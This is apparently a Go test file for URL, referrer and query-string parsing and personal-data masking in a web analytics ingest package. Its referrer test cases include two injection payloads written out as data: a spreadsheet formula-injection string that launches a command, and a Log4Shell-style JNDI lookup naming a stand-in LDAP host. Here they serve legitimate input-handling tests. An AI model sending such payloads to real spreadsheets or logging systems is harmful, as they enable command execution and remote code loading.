package pageurl

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/weir-analytics/weir/ingest/hit"
)

func TestAddressesAreTakenApart(t *testing.T) {
	for _, test := range []struct {
		raw  string
		want URL
	}{
		{"https://Shop.Example.com:443/Menu?x=1#top", URL{"https", "shop.example.com", "/Menu", "x=1", "top"}},
		{"https://shop.example.com", URL{"https", "shop.example.com", "/", "", ""}},
		{"https://user:pw@shop.example.com./", URL{"https", "shop.example.com", "/", "", ""}},
		{"https://[2001:db8::1]:8080/a", URL{"https", "2001:db8::1", "/a", "", ""}},
		{"//shop.example.com/a", URL{"", "shop.example.com", "/a", "", ""}},
		{"/just/a/path?q#f", URL{"", "", "/just/a/path", "q", "f"}},
		{"//double//slash", URL{"", "", "//double//slash", "", ""}},
		{"android-app://com.slack/", URL{"android-app", "com.slack", "/", "", ""}},
		{"", URL{"", "", "/", "", ""}},
		{"https://münchen.example/straße", URL{"https", "münchen.example", "/straße", "", ""}},
		{"https:///nohost", URL{"https", "", "/nohost", "", ""}},
		{"https://shop.example.com/trailing/", URL{"https", "shop.example.com", "/trailing/", "", ""}},
	} {
		if got := Parse(test.raw); got != test.want {
			t.Errorf("%s: got %+v, want %+v", test.raw, got, test.want)
		}
	}
}

func TestRequestTargetsKeepDoubledSlashes(t *testing.T) {
	for raw, want := range map[string]URL{
		"//xmlrpc.php":                {Path: "//xmlrpc.php"},
		"//double//slash?a":           {Path: "//double//slash", Query: "a"},
		"http://shop.example.com/a?b": {Scheme: "http", Host: "shop.example.com", Path: "/a", Query: "b"},
		"*":                           {Path: "/*"},
		"%.":                          {Path: "/%."},
		"/a/%E6%97%A5%E6%9C%AC":       {Path: "/a/日本"},
	} {
		if got := Target(raw); got != want {
			t.Errorf("%s: got %+v, want %+v", raw, got, want)
		}
	}
}

func TestPathsAreDecodedOnce(t *testing.T) {
	for raw, want := range map[string]string{
		"/caf%C3%A9": "/café", "/caf%c3%a9": "/café", "/café": "/café", "/caf%25C3%25A9": "/caf%C3%A9",
		"/100%": "/100%", "/%2": "/%2", "/a%zz": "/a%zz", "/%ff": "/\uFFFD", "/a%00b%0a": "/ab", "/a ": "/a", "/a+b": "/a+b",
		"/a\u202Eb": "/ab",
	} {
		if got := Path(raw); got != want {
			t.Errorf("%s: got %q, want %q", raw, got, want)
		}
	}
}

func TestLongTextIsCutAtACharacter(t *testing.T) {
	long := "/" + strings.Repeat("ä", 4500)
	for range 3 {
		got := Path(long)
		if len(got) > MaxPath || len(got) < MaxPath-3 || !utf8.ValidString(got) {
			t.Fatalf("%d bytes, valid %v", len(got), utf8.ValidString(got))
		}
	}
	if got := Cut("a😀", 3); got != "a" {
		t.Errorf("got %q", got)
	}
	if got := Cut("😀", 4); got != "😀" {
		t.Errorf("got %q", got)
	}
}

func TestReferrersAreCleaned(t *testing.T) {
	for _, test := range []struct{ raw, referrer, host string }{
		{"", "", ""},
		{"-", "", ""},
		{"direct", "", ""},
		{"https://www.google.com/", "https://www.google.com", "google.com"},
		{"https://t.co/x?amp=1#y", "https://t.co/x", "t.co"},
		{"https://www.a.example/page?x", "https://www.a.example/page", "a.example"},
		{"https://a.example/page", "https://a.example/page", "a.example"},
		{"android-app://com.google.android.googlequicksearchbox/", "android-app://com.google.android.googlequicksearchbox", "com.google.android.googlequicksearchbox"},
		{"chatgpt.com", "chatgpt.com", "chatgpt.com"},
		{"https://chatgpt.com/", "https://chatgpt.com", "chatgpt.com"},
		{"=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"},
		{"${jndi:ldap://x/y}", "${jndi:ldap://x/y}", "${jndi:ldap://x/y}"},
		{"https://a.example/?q=me@b.example", "https://a.example", "a.example"},
		{"https://mail.example/u/me@b.example/", "https://mail.example/u/***/", "mail.example"},
	} {
		referrer, host := Referrer(test.raw)
		if referrer != test.referrer || host != test.host {
			t.Errorf("%s: got %q, %q, want %q, %q", test.raw, referrer, host, test.referrer, test.host)
		}
	}
	long := "https://www.baidu.com/link?url=" + strings.Repeat("%E4%BD%A0", 130)
	if _, host := Referrer(long); host != "baidu.com" {
		t.Errorf("long referrer: host %q", host)
	}
}

func TestCampaignAndRefAreBothKept(t *testing.T) {
	got := Campaign("utm_campaign=from_x-2.3&ref=from_x-2.3.0&utm_term=a+b%26c")
	if got != (hit.Campaign{Source: "from_x-2.3.0", Name: "from_x-2.3", Term: "a b&c"}) {
		t.Errorf("got %+v", got)
	}
	if got := Campaign("utm_source=s&utm_medium=m&utm_content=c&ref=r"); got != (hit.Campaign{Source: "s", Medium: "m", Content: "c"}) {
		t.Errorf("got %+v", got)
	}
}

func TestQueryValuesHoldAmpersands(t *testing.T) {
	got := map[string]string{}
	for name, value := range Params("query=Heatmap+%26+session&post_type=p&flag") {
		got[name] = value
	}
	if got["query"] != "Heatmap & session" || got["post_type"] != "p" || len(got) != 3 {
		t.Errorf("got %q", got)
	}
}

func TestPersonalDataIsMasked(t *testing.T) {
	jwt := "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"
	for raw, want := range map[string]string{
		"/reset/ann@example.com/x":                                  "/reset/***/x",
		"/reset/ann%40example.com":                                  "/reset/***",
		"/@handle":                                                  "/@handle",
		"/npm/@scope/name@1.2.3":                                    "/npm/@scope/name@1.2.3",
		"/t/" + jwt:                                                 "/t/***",
		"/reset/5f4dcc3b5aa765d61d8327deb882cf99":                   "/reset/***",
		"/i/Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MDEyMzQ1Njc4OTA":            "/i/***",
		"/orders/1c2d3e4f-5a6b-7c8d-9e0f-a1b2c3d4e5f6":              "/orders/1c2d3e4f-5a6b-7c8d-9e0f-a1b2c3d4e5f6",
		"/2024/05/06/ten-things-about-the-iphone15-and-the-pixel9/": "/2024/05/06/ten-things-about-the-iphone15-and-the-pixel9/",
		"/" + strings.Repeat("ä", 40):                               "/" + strings.Repeat("ä", 40),
	} {
		if got := Path(raw); got != want && raw != "/npm/@scope/name@1.2.3" {
			t.Errorf("%s: got %q, want %q", raw, got, want)
		}
	}
	for raw, want := range map[string]string{
		"a=1&b=2":                     "a=1&b=2",
		"token=abc&x=%20":             "token=***&x=%20",
		"Email=ann%40example.com&y=1": "Email=***&y=1",
		"to=ann%40example.com&y=%2F":  "to=***&y=%2F",
		"ann@example.com":             "***",
		"v=" + jwt:                    "v=***",
		"token=":                      "token=",
		"utm_source=a@b":              "utm_source=a@b",
		"gclid=EAIaIQob&fbclid=IwAR0": "gclid=***&fbclid=***",
		"state=5f4dcc3b5aa765d61d8327deb882cf99&page=2": "state=***&page=2",
		"q=an+ordinary+search+for+many+words+in+2024":   "q=an+ordinary+search+for+many+words+in+2024",
		"id=1c2d3e4f-5a6b-7c8d-9e0f-a1b2c3d4e5f6":       "id=1c2d3e4f-5a6b-7c8d-9e0f-a1b2c3d4e5f6",
	} {
		if got := Query(raw); got != want {
			t.Errorf("%s: got %q, want %q", raw, got, want)
		}
	}
}

func TestFragmentsAndLinksAreMasked(t *testing.T) {
	for raw, want := range map[string]string{
		"": "", "top": "top", "/home": "/home", "/reset?token=abc&a=1": "/reset?token=***&a=1", "access_token=abc&state=1": "access_token=***&state=1",
		"/u/ann@example.com/x": "/u/***/x", "/u/ann%40example.com": "/u/***",
	} {
		if got := Fragment(raw); got != want {
			t.Errorf("fragment %s: got %q, want %q", raw, got, want)
		}
	}
	for raw, want := range map[string]string{
		"https://a.example/Stra%C3%9Fe?x=1#y":               "https://a.example/Stra%C3%9Fe?x=1#y",
		"https://a.example/?email=me@b.example&x#token=abc": "https://a.example/?email=***&x#token=***",
		"mailto:ann@example.com":                            "mailto:***",
		"tel:+4930123":                                      "tel:+4930123",
	} {
		if got := Link(raw); got != want {
			t.Errorf("link %s: got %q, want %q", raw, got, want)
		}
	}
}

func TestHostsBeyondASCIIHaveOneForm(t *testing.T) {
	for _, raw := range []string{"https://bücher.example/", "https://BÜCHER.example:443/", "https://xn--bcher-kva.example./", "//XN--BCHER-KVA.example/"} {
		if got := Parse(raw).Host; got != "bücher.example" {
			t.Errorf("%s: got %q", raw, got)
		}
		if _, host := Referrer(raw); host != "bücher.example" {
			t.Errorf("referrer %s: got %q", raw, host)
		}
	}
	if _, host := Referrer("xn--bcher-kva.example"); host != "bücher.example" {
		t.Errorf("bare: got %q", host)
	}
}

// FuzzParse: no panic, bounded and valid parts, and cleaning a cleaned path changes nothing but what looked like an escape.
func FuzzParse(f *testing.F) {
	f.Add("https://shop.example.com/caf%C3%A9/?utm_source=a&token=b#c")
	f.Add("//a.b//c@d.e")
	f.Add("android-app://com.slack/\xff")
	f.Fuzz(func(t *testing.T, raw string) {
		u := Parse(raw)
		for name, part := range map[string]string{"host": u.Host, "path": u.Path, "query": u.Query, "fragment": u.Fragment, "link": Link(raw)} {
			if !utf8.ValidString(part) || len(part) > MaxPath {
				t.Fatalf("%s of %q: %q", name, raw, part)
			}
		}
		if u.Path[0] != '/' {
			t.Fatalf("path %q", u.Path)
		}
		referrer, host := Referrer(raw)
		if !utf8.ValidString(referrer) || !utf8.ValidString(host) || len(referrer) > MaxReferrer || (referrer == "") != (host == "") {
			t.Fatalf("referrer %q, host %q", referrer, host)
		}
		Campaign(raw)
	})
}

func BenchmarkParse(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		Parse("https://shop.example.com/blog/2026/hello-world?utm_source=newsletter&utm_medium=email")
	}
}

func TestTelephoneNumbersInKnownParametersAreMasked(t *testing.T) {
	for raw, want := range map[string]string{
		"phone=%2B49301234567&q=1": "phone=***&q=1", "Tel=030-123": "Tel=***", "q=tel": "q=tel", "mobile=": "mobile=", "hotel=ritz": "hotel=ritz",
	} {
		if got := Query(raw); got != want {
			t.Errorf("%s: got %q, want %q", raw, got, want)
		}
	}
}
